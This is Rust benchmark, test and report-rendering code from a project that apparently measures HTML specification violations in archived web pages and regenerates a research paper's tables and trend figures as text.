        g.bench_function(profile, |b| {
            b.iter(|| {
                let out = spec_html::parse_document(black_box(&page));
                black_box((out.dom.len(), out.errors.len()))
            })
        });
    }
    g.finish();
}

fn bench_tokenize_throughput(c: &mut Criterion) {
    let mut g = c.benchmark_group("tokenize_throughput");
    for &profile in hv_bench::PROFILES {
        let page = hv_bench::profile_page(profile, PAGE_BYTES);
        g.throughput(Throughput::Bytes(page.len() as u64));
        g.bench_function(profile, |b| {
            b.iter(|| {
                let (tokens, errors) = spec_html::tokenize(black_box(&page));
                black_box((tokens.len(), errors.len()))
            })
        });
    }
    g.finish();
}

criterion_group!(benches, bench_parse_throughput, bench_tokenize_throughput);
criterion_main!(benches);
