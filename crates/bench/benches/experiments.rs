//! Experiment regeneration benches — one per table and figure of the paper.
//!
//! Each bench regenerates the experiment's numbers from a pre-computed scan
//! (the scan itself is benchmarked in `pipeline.rs`) and, once per run,
//! prints the regenerated output so `cargo bench` doubles as a results
//! dump. The aggregation cost is what a researcher iterating on queries
//! would feel against the paper's Postgres. Queries read the one-pass
//! [`AggregateIndex`](hv_pipeline::AggregateIndex); `table2_legacy` keeps
//! the per-query record fold on the board as the before/after baseline.

use criterion::{criterion_group, criterion_main, Criterion};
use hv_corpus::{Archive, CorpusConfig, Snapshot};
use hv_pipeline::{aggregate, scan, IndexedStore, ScanOptions};
use std::hint::black_box;
use std::sync::OnceLock;

fn store() -> &'static IndexedStore {
    static STORE: OnceLock<IndexedStore> = OnceLock::new();
    STORE.get_or_init(|| {
        let archive = Archive::new(CorpusConfig { seed: 0x48_56_31, scale: 0.01 });
        IndexedStore::new(scan(&archive, ScanOptions::default()))
    })
}

fn bench_tables(c: &mut Criterion) {
    let store = store();
    let mut g = c.benchmark_group("experiments");

    // Table 1 (static taxonomy rendering).
    println!("\n{}", hv_report::experiments::table1());
    g.bench_function("table1", |b| b.iter(|| black_box(hv_report::experiments::table1()).len()));

    // Table 2 — from the index, and via the legacy per-query fold as the
    // baseline the index is measured against.
    println!("{}", hv_report::experiments::table2(store));
    g.bench_function("table2", |b| b.iter(|| black_box(store.index.table2()).len()));
    g.bench_function("table2_legacy", |b| {
        b.iter(|| black_box(aggregate::legacy::table2(black_box(store))).len())
    });

    g.finish();
}

fn bench_figures(c: &mut Criterion) {
    let store = store();
    let mut g = c.benchmark_group("experiments");

    println!("{}", hv_report::experiments::fig8(store));
    g.bench_function("fig8_distribution", |b| {
        b.iter(|| black_box(store.index.overall_distribution()).len())
    });

    println!("{}", hv_report::experiments::fig9(store));
    g.bench_function("fig9_any_violation_trend", |b| {
        b.iter(|| black_box(store.index.violating_domains_by_year()))
    });

    println!("{}", hv_report::experiments::fig10(store));
    g.bench_function("fig10_group_trends", |b| {
        b.iter(|| black_box(store.index.group_trends()).len())
    });

    // Figures 16–21: per-kind trends, one bench each (they share the same
    // query; benched per figure to mirror the paper's artifact list).
    for (name, renderer) in [
        ("fig16_filter_bypass", hv_report::experiments::fig16 as fn(&IndexedStore) -> String),
        ("fig17_html_formatting_1", hv_report::experiments::fig17),
        ("fig18_html_formatting_2", hv_report::experiments::fig18),
        ("fig19_data_manipulation", hv_report::experiments::fig19),
        ("fig20_data_exfiltration_1", hv_report::experiments::fig20),
        ("fig21_data_exfiltration_2", hv_report::experiments::fig21),
    ] {
        println!("{}", renderer(store));
        g.bench_function(name, |b| b.iter(|| black_box(renderer(black_box(store))).len()));
    }
    g.finish();
}

fn bench_statistics(c: &mut Criterion) {
    let store = store();
    let mut g = c.benchmark_group("experiments");

    println!("{}", hv_report::experiments::stats(store));
    g.bench_function("stats_4_2_union_share", |b| {
        b.iter(|| black_box(store.index.overall_violating_share()))
    });

    println!("{}", hv_report::experiments::autofix(store));
    g.bench_function("stats_4_4_autofix_projection", |b| {
        b.iter(|| black_box(store.index.autofix_projection(Snapshot::ALL[7])).fixed_share)
    });

    println!("{}", hv_report::experiments::mitigations(store));
    g.bench_function("stats_4_5_mitigations", |b| {
        b.iter(|| black_box(store.index.mitigation_trends()).newline_in_url[7])
    });

    g.bench_function("full_report_render", |b| {
        b.iter(|| black_box(hv_report::full_report(black_box(store))).len())
    });
    g.finish();
}

criterion_group!(benches, bench_tables, bench_figures, bench_statistics);
criterion_main!(benches);
