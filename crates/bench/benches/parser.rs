//! Parser substrate benchmarks: tokenizer, tree construction, entity
//! decoding, serialization.
//!
//! Context for the numbers: the paper's Python framework analyzed "nearly a
//! thousand pages per minute" per IP (§3.3); these benches show the Rust
//! substrate's headroom.

use criterion::{criterion_group, criterion_main, BatchSize, Criterion, Throughput};
use std::hint::black_box;

fn bench_tokenizer(c: &mut Criterion) {
    let pages = hv_bench::sample_pages(64);
    let bytes = hv_bench::total_bytes(&pages);
    let mut g = c.benchmark_group("tokenizer");
    g.throughput(Throughput::Bytes(bytes));
    g.bench_function("tokenize_64_pages", |b| {
        b.iter(|| {
            for p in &pages {
                let (tokens, errors) = spec_html::tokenize(black_box(p));
                black_box((tokens.len(), errors.len()));
            }
        })
    });
    g.finish();
}

fn bench_tree_builder(c: &mut Criterion) {
    let pages = hv_bench::sample_pages(64);
    let bytes = hv_bench::total_bytes(&pages);
    let mut g = c.benchmark_group("tree_builder");
    g.throughput(Throughput::Bytes(bytes));
    g.bench_function("parse_64_pages", |b| {
        b.iter(|| {
            for p in &pages {
                let out = spec_html::parse_document(black_box(p));
                black_box(out.dom.len());
            }
        })
    });
    g.finish();

    // Pathological inputs must stay linear-ish.
    let mut g = c.benchmark_group("parser_adversarial");
    let deep_tables = "<table>".repeat(60) + &"x".repeat(500);
    let misnested = "<b><i><u>".repeat(40) + "text" + &"</b></i></u>".repeat(40);
    let unterminated = format!("<textarea>{}", "swallowed content ".repeat(200));
    for (name, input) in [
        ("nested_tables", &deep_tables),
        ("misnested_formatting", &misnested),
        ("unterminated_textarea", &unterminated),
    ] {
        g.bench_function(name, |b| {
            b.iter(|| black_box(spec_html::parse_document(black_box(input))).dom.len())
        });
    }
    g.finish();
}

fn bench_entities(c: &mut Criterion) {
    let dense = "&amp;&lt;&gt;&quot;&copy;&ndash;&#65;&#x1F600;x".repeat(64);
    let sparse = "plain text without any references at all, repeated ".repeat(64);
    let mut g = c.benchmark_group("entities");
    g.throughput(Throughput::Bytes(dense.len() as u64));
    g.bench_function("decode_dense", |b| {
        b.iter(|| black_box(spec_html::entities::decode_data(black_box(&dense))))
    });
    g.throughput(Throughput::Bytes(sparse.len() as u64));
    g.bench_function("decode_sparse", |b| {
        b.iter(|| black_box(spec_html::entities::decode_data(black_box(&sparse))))
    });
    g.finish();
}

fn bench_serializer(c: &mut Criterion) {
    let pages = hv_bench::sample_pages(32);
    let doms: Vec<_> = pages.iter().map(|p| spec_html::parse_document(p).dom).collect();
    let mut g = c.benchmark_group("serializer");
    g.bench_function("serialize_32_pages", |b| {
        b.iter(|| {
            for dom in &doms {
                black_box(spec_html::serializer::serialize(black_box(dom)).len());
            }
        })
    });
    // The §4.4 round trip: parse → serialize → parse.
    g.bench_function("fix_roundtrip_one_page", |b| {
        let page = hv_bench::violating_page();
        b.iter_batched(
            || page.clone(),
            |p| {
                let once = spec_html::serializer::serialize(&spec_html::parse_document(&p).dom);
                black_box(spec_html::parse_document(&once).dom.len())
            },
            BatchSize::SmallInput,
        )
    });
    g.finish();
}

criterion_group!(benches, bench_tokenizer, bench_tree_builder, bench_entities, bench_serializer);
criterion_main!(benches);
