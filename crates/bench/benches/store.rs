//! Store-layer benches: load cost per on-disk format, the one-pass
//! aggregate index build, and per-query latency with and without the
//! index.
//!
//! Together these back `BENCH_store.json`: the v1 binary store should
//! load no slower than the v0 JSON blob it replaces, and index-backed
//! queries should beat the legacy per-query record folds by orders of
//! magnitude (each legacy query walks every record; the index walks them
//! once at build time).

use criterion::{criterion_group, criterion_main, Criterion};
use hv_corpus::{Archive, CorpusConfig};
use hv_pipeline::{aggregate, scan, AggregateIndex, IndexedStore, ResultStore, ScanOptions};
use std::hint::black_box;
use std::path::PathBuf;
use std::sync::OnceLock;

/// The scanned store plus both on-disk encodings of it, written once.
struct Fixture {
    store: ResultStore,
    v0: PathBuf,
    v1: PathBuf,
}

fn fixture() -> &'static Fixture {
    static FIXTURE: OnceLock<Fixture> = OnceLock::new();
    FIXTURE.get_or_init(|| {
        let archive = Archive::new(CorpusConfig { seed: 0x48_56_31, scale: 0.01 });
        let store = scan(&archive, ScanOptions::default());
        let dir = std::env::temp_dir();
        let v0 = dir.join(format!("hv-bench-store-{}.json", std::process::id()));
        let v1 = dir.join(format!("hv-bench-store-{}.hvs", std::process::id()));
        store.save(&v0).expect("writing v0 fixture");
        store.save_v1(&v1).expect("writing v1 fixture");
        Fixture { store, v0, v1 }
    })
}

fn bench_load(c: &mut Criterion) {
    let f = fixture();
    let mut g = c.benchmark_group("store");
    g.bench_function("load_v0_json", |b| {
        b.iter(|| black_box(ResultStore::load(black_box(&f.v0)).unwrap()).records.len())
    });
    g.bench_function("load_v1_binary", |b| {
        b.iter(|| black_box(ResultStore::load(black_box(&f.v1)).unwrap()).records.len())
    });
    // What `hva serve`/`hva report` actually pay at startup: load + index.
    g.bench_function("load_v1_indexed", |b| {
        b.iter(|| black_box(IndexedStore::load(black_box(&f.v1)).unwrap()).index.table2_total())
    });
    g.finish();
}

fn bench_index(c: &mut Criterion) {
    let f = fixture();
    let mut g = c.benchmark_group("store");
    g.bench_function("index_build", |b| {
        b.iter(|| black_box(AggregateIndex::build(black_box(&f.store))).table2_total())
    });
    g.finish();
}

fn bench_queries(c: &mut Criterion) {
    let f = fixture();
    let indexed = IndexedStore::new(f.store.clone());
    let mut g = c.benchmark_group("store");
    // The cheapest and the most expensive queries, indexed vs legacy fold.
    g.bench_function("query_violating_by_year_index", |b| {
        b.iter(|| black_box(indexed.index.violating_domains_by_year()))
    });
    g.bench_function("query_violating_by_year_legacy", |b| {
        b.iter(|| black_box(aggregate::legacy::violating_domains_by_year(black_box(&f.store))))
    });
    g.bench_function("query_churn_index", |b| {
        b.iter(|| black_box(indexed.index.violation_churn()).len())
    });
    g.bench_function("query_churn_legacy", |b| {
        b.iter(|| black_box(aggregate::legacy::violation_churn(black_box(&f.store))).len())
    });
    g.finish();
}

criterion_group!(benches, bench_load, bench_index, bench_queries);
criterion_main!(benches);
