//! Checker battery benchmarks: per-rule cost, full-battery cost, and the
//! §4.4 auto-fixer.
//!
//! Deliberately exercises the deprecated `check_page`/`check_context`
//! shims: these series track the one-shot convenience path's cost across
//! builds for as long as the shims live.
#![allow(deprecated)]

use criterion::{criterion_group, criterion_main, Criterion};
use hv_core::checkers;
use hv_core::context::CheckContext;
use std::hint::black_box;

fn bench_full_battery(c: &mut Criterion) {
    let pages = hv_bench::sample_pages(32);
    let mut g = c.benchmark_group("checkers");
    g.bench_function("check_page_32_pages", |b| {
        b.iter(|| {
            let mut findings = 0usize;
            for p in &pages {
                findings += checkers::check_page(black_box(p)).findings.len();
            }
            black_box(findings)
        })
    });
    // Battery cost excluding the parse (the paper runs rules
    // "independently of each other" over a pre-parsed context).
    let page = hv_bench::violating_page();
    let cx = CheckContext::new(&page);
    g.bench_function("battery_without_parse", |b| {
        b.iter(|| black_box(checkers::check_context(black_box(&cx))).findings.len())
    });
    g.finish();
}

fn bench_individual_rules(c: &mut Criterion) {
    // Per-rule cost of the pre-fusion scans (the fused engine has no
    // isolated per-rule path; `legacy::ALL` keeps the per-rule series
    // comparable across builds).
    let page = hv_bench::violating_page();
    let cx = CheckContext::new(&page);
    let mut g = c.benchmark_group("per_rule");
    for (kind, check) in checkers::legacy::ALL {
        g.bench_function(kind.id(), |b| {
            b.iter(|| {
                let mut out = Vec::new();
                check(black_box(&cx), &mut out);
                black_box(out.len())
            })
        });
    }
    g.finish();
}

fn bench_mitigations(c: &mut Criterion) {
    let page = hv_bench::violating_page();
    let cx = CheckContext::new(&page);
    c.bench_function("mitigation_flags", |b| {
        b.iter(|| black_box(checkers::mitigation_flags(black_box(&cx))))
    });
}

fn bench_autofix(c: &mut Criterion) {
    let page = hv_bench::violating_page();
    c.bench_function("auto_fix_one_page", |b| {
        b.iter(|| black_box(hv_core::autofix::auto_fix(black_box(&page))).after.len())
    });
}

criterion_group!(
    benches,
    bench_full_battery,
    bench_individual_rules,
    bench_mitigations,
    bench_autofix
);
criterion_main!(benches);
