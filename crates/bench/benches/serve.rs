//! Round-trip cost of the HTTP service layer: `POST /v1/check` over real
//! TCP against an in-process `hv_server`, versus the same analysis run
//! directly on a [`hv_core::Battery`]. The delta is the wire tax —
//! connect + parse + serialize + write — which should stay small relative
//! to the analysis itself on non-trivial pages.

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use hv_bench::loadgen;
use hv_server::{serve, ServeOptions};
use std::time::Duration;

const TIMEOUT: Duration = Duration::from_secs(10);

fn bench_serve(c: &mut Criterion) {
    let server = serve(ServeOptions::new().addr("127.0.0.1:0").threads(2).queue_depth(32))
        .expect("server starts");
    let addr = server.addr().to_string();

    let small = hv_bench::violating_page();
    let dense = hv_bench::dense_violating_page(50);
    let clean = hv_bench::dense_clean_page(100);

    let mut g = c.benchmark_group("serve");
    for (name, page) in [("violating", &small), ("dense_violating", &dense), ("clean", &clean)] {
        g.throughput(Throughput::Bytes(page.len() as u64));
        g.bench_function(&format!("post_check_{name}"), |b| {
            b.iter(|| {
                let resp = loadgen::post_check(&addr, black_box(page), TIMEOUT)
                    .expect("request round-trips");
                assert_eq!(resp.status, 200);
                black_box(resp.body.len())
            })
        });
        g.bench_function(&format!("battery_direct_{name}"), |b| {
            let mut battery = hv_core::Battery::full();
            b.iter(|| black_box(battery.run_str(black_box(page)).findings.len()))
        });
    }
    g.finish();

    server.shutdown();
}

criterion_group!(benches, bench_serve);
criterion_main!(benches);
