//! Pipeline-stage benchmarks: corpus generation, CDX lookup, record fetch,
//! and the end-to-end domain-snapshot scan. The paper's framework processed
//! "nearly a thousand pages per minute" (§3.3); `scan_one_snapshot` shows
//! pages/second for the Rust pipeline.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use hv_corpus::{Archive, CorpusConfig, Snapshot};
use hv_pipeline::{scan_snapshots, ScanOptions};
use std::hint::black_box;

fn bench_corpus(c: &mut Criterion) {
    let mut g = c.benchmark_group("corpus");
    g.bench_function("archive_build_scale_0.05", |b| {
        b.iter(|| black_box(Archive::new(CorpusConfig { seed: 7, scale: 0.05 })).domains().len())
    });
    g.bench_function("calibration_solve", |b| {
        b.iter(|| black_box(hv_corpus::calibration::solve()).disciplined)
    });

    let archive = Archive::new(CorpusConfig { seed: 7, scale: 0.01 });
    let snap = Snapshot::ALL[7];
    g.bench_function("cdx_lookup_all_domains", |b| {
        b.iter(|| {
            let mut pages = 0usize;
            for d in archive.domains() {
                if let Some(cdx) = archive.cdx_lookup(black_box(d), snap) {
                    pages += cdx.pages.len();
                }
            }
            black_box(pages)
        })
    });

    let d = &archive.domains()[0];
    let cdx = archive.cdx_lookup(d, snap).expect("top domain present");
    g.throughput(Throughput::Elements(1));
    g.bench_function("fetch_one_record", |b| {
        b.iter(|| black_box(archive.fetch(black_box(&cdx.pages[0]))).body.len())
    });
    g.finish();
}

fn bench_scan(c: &mut Criterion) {
    let archive = Archive::new(CorpusConfig { seed: 7, scale: 0.002 });
    // Measure pages/second over one snapshot (≈50 domains × ~85 pages).
    let probe = scan_snapshots(&archive, &[Snapshot::ALL[7]], ScanOptions::default());
    let pages: usize = probe.records.iter().map(|r| r.pages_analyzed).sum();

    let mut g = c.benchmark_group("scan");
    g.sample_size(10);
    g.throughput(Throughput::Elements(pages as u64));
    g.bench_function("one_snapshot_parallel", |b| {
        b.iter(|| {
            let store =
                scan_snapshots(black_box(&archive), &[Snapshot::ALL[7]], ScanOptions::default());
            black_box(store.records.len())
        })
    });
    g.bench_function("one_snapshot_single_thread", |b| {
        b.iter(|| {
            let store = scan_snapshots(
                black_box(&archive),
                &[Snapshot::ALL[7]],
                ScanOptions::new().threads(1),
            );
            black_box(store.records.len())
        })
    });
    g.finish();
}

criterion_group!(benches, bench_corpus, bench_scan);
criterion_main!(benches);
