//! Allocation-regression guard: parsing and analyzing the dense fixture
//! must stay under a recorded allocations-per-page ceiling.
//!
//! The ceilings are the post-atom-interning measurements plus ~15%
//! headroom; before interning, the same fixtures measured ~4-9x higher
//! (see BENCH_parse.json / BENCH_battery.json "allocs" entries). If a
//! change pushes allocs/page back above a ceiling, this test fails and
//! CI goes red — the point is to make allocation regressions as loud as
//! throughput regressions.
//!
//! Counts are exact: the measurement closures run single-threaded under
//! `hv_bench::alloc::CountingAlloc`.

use hv_bench::alloc::count_allocations;
use hv_bench::{dense_violating_page, profile_page};

const DENSE_N: usize = 400;
const PROFILE_BYTES: usize = 256 * 1024;

/// Measure steady-state allocs for one full parse of `page` (DOM build
/// included). A warmup parse is discarded so one-time lazy init (atom
/// classification bitsets, entity tables) doesn't count against the page.
fn parse_allocs(page: &str) -> u64 {
    let _ = spec_html::parse_document(page);
    let (_, n) = count_allocations(|| spec_html::parse_document(page));
    n
}

/// Measure steady-state allocs for one fused battery run (parse + all 20
/// checks) with a reused Battery, as the scan engine runs it.
fn battery_allocs(page: &str) -> u64 {
    let mut battery = hv_core::Battery::full();
    let _ = battery.run_bytes(page.as_bytes());
    let (_, n) = count_allocations(|| {
        let _ = battery.run_bytes(page.as_bytes());
    });
    n
}

#[test]
fn dense_fixture_parse_allocs_within_ceiling() {
    let page = dense_violating_page(DENSE_N);
    let n = parse_allocs(&page);
    eprintln!("dense_violating({DENSE_N}): {n} allocs/parse");
    // Post-interning measurement: see BENCH_parse.json. Pre-interning this
    // fixture measured ~6x the ceiling.
    assert!(n <= DENSE_PARSE_CEILING, "dense parse allocs regressed: {n} > {DENSE_PARSE_CEILING}");
}

#[test]
fn dense_fixture_battery_allocs_within_ceiling() {
    let page = dense_violating_page(DENSE_N);
    let n = battery_allocs(&page);
    eprintln!("dense_violating({DENSE_N}): {n} allocs/battery-run");
    assert!(
        n <= DENSE_BATTERY_CEILING,
        "dense battery allocs regressed: {n} > {DENSE_BATTERY_CEILING}"
    );
}

#[test]
fn attribute_profiles_parse_allocs_within_ceiling() {
    for (profile, ceiling) in
        [("attribute_heavy", ATTR_HEAVY_CEILING), ("attribute_soup", ATTR_SOUP_CEILING)]
    {
        let page = profile_page(profile, PROFILE_BYTES);
        let n = parse_allocs(&page);
        eprintln!("{profile} ({PROFILE_BYTES} B): {n} allocs/parse");
        assert!(n <= ceiling, "{profile} parse allocs regressed: {n} > {ceiling}");
    }
}

// Recorded ceilings (post-atom-interning measurement + ~15% headroom).
const DENSE_PARSE_CEILING: u64 = 9_300; // measured 8,051 (was 53,274 pre-interning)
const DENSE_BATTERY_CEILING: u64 = 19_900; // measured 17,263 (was 75,287)
const ATTR_HEAVY_CEILING: u64 = 11_500; // measured 10,020 (was 103,196)
const ATTR_SOUP_CEILING: u64 = 16_300; // measured 14,206 (was 134,712)
