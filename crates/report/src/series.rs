//! Year-series rendering: the textual equivalent of the paper's trend
//! figures — one labelled row of values per series, plus a coarse ASCII
//! plot for shape inspection.

use hv_corpus::snapshots::YEARS;

/// Render a header row with the study years.
pub fn year_header(label_width: usize) -> String {
    let mut s = format!("{:width$}", "", width = label_width);
    for y in 0..YEARS {
        s.push_str(&format!("{:>8}", 2015 + y));
    }
    s.push('\n');
    s
}

/// Render one labelled series row (values in percent).
pub fn series_row(label: &str, values: &[f64; YEARS], label_width: usize) -> String {
    let mut s = format!("{label:label_width$}");
    for v in values {
        s.push_str(&format!("{v:>8.2}"));
    }
    s.push('\n');
    s
}

/// A coarse ASCII plot of one or more series on a shared y-axis, for
/// eyeballing the trend shapes the paper shows in its figures.
pub fn ascii_plot(series: &[(&str, [f64; YEARS])], height: usize) -> String {
    let max = series.iter().flat_map(|(_, v)| v.iter().copied()).fold(f64::MIN, f64::max).max(1e-9);
    let min = series.iter().flat_map(|(_, v)| v.iter().copied()).fold(f64::MAX, f64::min).min(max);
    let span = (max - min).max(1e-9);
    let marks = ['*', 'o', '+', 'x', '#', '@'];
    let mut grid = vec![vec![' '; YEARS * 6]; height];
    for (si, (_, values)) in series.iter().enumerate() {
        for (y, v) in values.iter().enumerate() {
            let row = ((max - v) / span * (height - 1) as f64).round() as usize;
            let col = y * 6 + 2;
            grid[row.min(height - 1)][col] = marks[si % marks.len()];
        }
    }
    let mut out = String::new();
    for (i, row) in grid.iter().enumerate() {
        let yval = max - span * i as f64 / (height - 1) as f64;
        out.push_str(&format!("{yval:6.1} |"));
        out.extend(row.iter());
        out.push('\n');
    }
    out.push_str("       +");
    out.extend(std::iter::repeat_n('-', YEARS * 6));
    out.push('\n');
    out.push_str("        ");
    for y in 0..YEARS {
        out.push_str(&format!("{:<6}", 2015 + y));
    }
    out.push('\n');
    out.push_str("        legend: ");
    for (si, (name, _)) in series.iter().enumerate() {
        if si > 0 {
            out.push_str(", ");
        }
        out.push(marks[si % marks.len()]);
        out.push('=');
        out.push_str(name);
    }
    out.push('\n');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn series_row_formats_all_years() {
        let row = series_row("FB2", &[1.0; YEARS], 6);
        assert!(row.starts_with("FB2"));
        assert_eq!(row.matches("1.00").count(), YEARS);
    }

    #[test]
    fn plot_contains_marks_and_axis() {
        let s = ascii_plot(&[("a", [10.0, 9.0, 8.0, 7.0, 6.0, 5.0, 4.0, 3.0])], 8);
        assert!(s.contains('*'));
        assert!(s.contains("2015"));
        assert!(s.contains("2022"));
        assert!(s.contains("legend: *=a"));
    }

    #[test]
    fn plot_two_series_distinct_marks() {
        let s =
            ascii_plot(&[("x", [5.0; YEARS]), ("y", [1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0])], 6);
        assert!(s.contains('*'));
        assert!(s.contains('o'));
    }

    #[test]
    fn flat_series_does_not_panic() {
        let s = ascii_plot(&[("flat", [2.0; YEARS])], 4);
        assert!(!s.is_empty());
    }
}
