//! # hv-report — regenerating the paper's tables and figures as text
//!
//! One function per experiment ([`experiments`]), each printing measured
//! values next to the paper's published numbers so shape preservation can
//! be judged at a glance. Rendering primitives live in [`table`] (aligned
//! text tables) and [`series`] (year series + coarse ASCII trend plots).

pub mod experiments;
pub mod series;
pub mod table;

pub use experiments::{experiments_json, experiments_markdown, full_report, render, EXPERIMENTS};
