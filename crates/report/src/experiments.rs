//! Per-experiment regeneration: one function per table/figure/statistic the
//! paper reports, each printing measured values side by side with the
//! paper's published numbers (from `hv_corpus::calibration`, the single
//! source of truth).

use crate::series::{ascii_plot, series_row, year_header};
use crate::table::TextTable;
use hv_core::{ProblemGroup, ViolationKind};
use hv_corpus::calibration::{
    paper_yearly_pct, union_target, PAPER_ANY_VIOLATION_PCT, PAPER_AUTOFIX_2022,
    PAPER_NEWLINE_URL_PCT, PAPER_UNION_ANY_PCT,
};
use hv_corpus::snapshots::{Snapshot, TABLE2_TARGETS, YEARS};
use hv_pipeline::IndexedStore;

/// Table 1: the violation list (static — the taxonomy itself).
pub fn table1() -> String {
    let mut t = TextTable::new(["Name", "Definition", "Group", "Category", "Fix"]);
    for kind in ViolationKind::ALL {
        t.row([
            kind.id().to_owned(),
            kind.definition().to_owned(),
            kind.group().code().to_owned(),
            match kind.category() {
                hv_core::ViolationCategory::DefinitionViolation => "definition".to_owned(),
                hv_core::ViolationCategory::ParsingError => "parsing-error".to_owned(),
            },
            match kind.fixability() {
                hv_core::Fixability::Automatic => "auto".to_owned(),
                hv_core::Fixability::Manual => "manual".to_owned(),
            },
        ]);
    }
    format!("Table 1: considered violations (20 checks, 14 families)\n\n{}", t.render())
}

/// Table 2: analyzed domains per crawl, measured vs. paper.
pub fn table2(store: &IndexedStore) -> String {
    let rows = store.index.table2();
    let scale = store.scale;
    let mut t = TextTable::new([
        "Snapshot",
        "Domains",
        "Succ. Analyzed",
        "Share",
        "Ø Pages",
        "paper:Domains",
        "paper:Share",
        "paper:Ø Pages",
    ]);
    for (row, target) in rows.iter().zip(TABLE2_TARGETS.iter()) {
        t.row([
            row.snapshot.clone(),
            format!("{}", row.domains_found),
            format!("{}", row.domains_analyzed),
            format!("{:.1}%", row.analyzed_share),
            format!("{:.1}", row.avg_pages),
            format!("{:.0}", target.domains as f64 * scale),
            format!("{:.1}%", target.success_rate * 100.0),
            format!("{:.1}", target.avg_pages),
        ]);
    }
    let (found, analyzed) = store.index.table2_total();
    let mut s = format!(
        "Table 2: analyzed domains per crawl (scale {scale}, universe {} domains)\n\n{}",
        store.universe,
        t.render()
    );
    s.push_str(&format!(
        "\nTotal: found ever {found} ({:.1}% of universe; paper 96.5%), analyzed ever {analyzed} ({:.1}%; paper 96.3%)\n",
        100.0 * found as f64 / store.universe as f64,
        100.0 * analyzed as f64 / store.universe as f64,
    ));
    s
}

/// Figure 8: overall distribution of violations across the whole study.
pub fn fig8(store: &IndexedStore) -> String {
    let bars = store.index.overall_distribution();
    let mut t = TextTable::new(["Violation", "Domains", "Share", "paper:Share"]);
    for b in &bars {
        t.row([
            b.kind.id().to_owned(),
            format!("{}", b.domains),
            format!("{:.2}%", b.share),
            format!("{:.2}%", union_target(b.kind) * 100.0),
        ]);
    }
    format!(
        "Figure 8: average distribution of violations over the entire study period\n\n{}",
        t.render()
    )
}

/// Figure 9: domains with at least one violation, per year.
pub fn fig9(store: &IndexedStore) -> String {
    let measured = store.index.violating_domains_by_year();
    let mut s = String::from("Figure 9: domains with at least one violation\n\n");
    s.push_str(&year_header(10));
    s.push_str(&series_row("measured", &measured, 10));
    s.push_str(&series_row("paper", &PAPER_ANY_VIOLATION_PCT, 10));
    s.push('\n');
    s.push_str(&ascii_plot(&[("measured", measured), ("paper", PAPER_ANY_VIOLATION_PCT)], 10));
    s
}

/// Figure 10: trend of problem groups.
pub fn fig10(store: &IndexedStore) -> String {
    let trends = store.index.group_trends();
    let mut s = String::from("Figure 10: trend of problem groups over the years\n\n");
    s.push_str(&year_header(22));
    let mut plot: Vec<(&str, [f64; YEARS])> = Vec::new();
    for group in ProblemGroup::ALL {
        let series = trends[&group];
        s.push_str(&series_row(group.name(), &series, 22));
        plot.push((group.code(), series));
    }
    s.push('\n');
    s.push_str(&ascii_plot(&plot, 12));
    s
}

/// One appendix figure: yearly trends for a set of kinds, measured and
/// paper side by side.
fn appendix_figure(store: &IndexedStore, title: &str, kinds: &[ViolationKind]) -> String {
    let mut s = format!("{title}\n\n");
    s.push_str(&year_header(18));
    let mut plot: Vec<(&str, [f64; YEARS])> = Vec::new();
    for &kind in kinds {
        let measured = store.index.kind_trend(kind);
        s.push_str(&series_row(&format!("{} measured", kind.id()), &measured, 18));
        s.push_str(&series_row(&format!("{} paper", kind.id()), &paper_yearly_pct(kind), 18));
        plot.push((kind.id(), measured));
    }
    s.push('\n');
    s.push_str(&ascii_plot(&plot, 10));
    s
}

/// Figure 16: Filter Bypass trends.
pub fn fig16(store: &IndexedStore) -> String {
    appendix_figure(store, "Figure 16: Filter Bypass", &[ViolationKind::FB2, ViolationKind::FB1])
}

/// Figure 17: HTML Formatting 1 (HF1–HF3).
pub fn fig17(store: &IndexedStore) -> String {
    appendix_figure(
        store,
        "Figure 17: HTML Formatting 1",
        &[ViolationKind::HF1, ViolationKind::HF2, ViolationKind::HF3],
    )
}

/// Figure 18: HTML Formatting 2 (HF4, HF5_*).
pub fn fig18(store: &IndexedStore) -> String {
    appendix_figure(
        store,
        "Figure 18: HTML Formatting 2",
        &[ViolationKind::HF4, ViolationKind::HF5_2, ViolationKind::HF5_3, ViolationKind::HF5_1],
    )
}

/// Figure 19: Data Manipulation trends.
pub fn fig19(store: &IndexedStore) -> String {
    appendix_figure(
        store,
        "Figure 19: Data Manipulation",
        &[
            ViolationKind::DM1,
            ViolationKind::DM2_1,
            ViolationKind::DM2_2,
            ViolationKind::DM2_3,
            ViolationKind::DM3,
        ],
    )
}

/// Figure 20: Data Exfiltration 1 (DE3_*).
pub fn fig20(store: &IndexedStore) -> String {
    appendix_figure(
        store,
        "Figure 20: Data Exfiltration 1",
        &[ViolationKind::DE3_1, ViolationKind::DE3_2, ViolationKind::DE3_3],
    )
}

/// Figure 21: Data Exfiltration 2 (DE1, DE2, DE4).
pub fn fig21(store: &IndexedStore) -> String {
    appendix_figure(
        store,
        "Figure 21: Data Exfiltration 2",
        &[ViolationKind::DE1, ViolationKind::DE2, ViolationKind::DE4],
    )
}

/// §4.2 statistics: overall violating share and the math-usage aside.
pub fn stats(store: &IndexedStore) -> String {
    let share = store.index.overall_violating_share();
    let (found, analyzed) = store.index.table2_total();
    let math = store.index.math_usage_by_year();
    format!(
        "General statistics (§4.2)\n\n\
         domains found ever:        {found}\n\
         domains analyzed ever:     {analyzed}\n\
         violated at least once:    {share:.1}%   (paper: {PAPER_UNION_ANY_PCT:.0}%)\n\
         math-element usage:        {} (2015) → {} (2022) domains\n\
                                    (paper: 42 → 224; scaled: {:.0} → {:.0})\n",
        math[0],
        math[7],
        42.0 * store.scale,
        224.0 * store.scale,
    )
}

/// §4.4: the auto-fix projection for 2022.
pub fn autofix(store: &IndexedStore) -> String {
    let p = store.index.autofix_projection(Snapshot::ALL[7]);
    let (paper_before, paper_after) = PAPER_AUTOFIX_2022;
    let paper_fixed = 100.0 * (paper_before - paper_after) as f64 / paper_before as f64;
    format!(
        "Automatic fixing projection, 2022 snapshot (§4.4)\n\n\
         analyzed domains:              {}\n\
         violating:                     {} ({:.1}%)   [paper: {} (68%)]\n\
         violating after automatic fix: {} ({:.1}%)   [paper: {} (37%)]\n\
         violating sites fully fixed:   {:.1}%          [paper: {paper_fixed:.1}%]\n",
        p.analyzed,
        p.violating,
        p.violating_share,
        paper_before,
        p.violating_after_fix,
        p.after_share,
        paper_after,
        p.fixed_share,
    )
}

